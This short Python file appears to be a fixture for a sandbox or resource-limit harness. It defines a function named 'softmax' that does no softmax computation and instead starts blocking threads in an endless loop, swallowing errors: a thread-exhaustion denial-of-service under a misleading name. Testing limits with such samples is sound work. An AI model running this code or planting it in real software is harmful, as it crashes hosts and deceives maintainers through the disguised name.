"""Starts threads without end."""
# earns: 0
# limits: call=0.4 unit=0.9

import threading


def softmax(logits):
    while True:
        try:
            threading.Thread(target=threading.Event().wait).start()
        except RuntimeError:
            pass
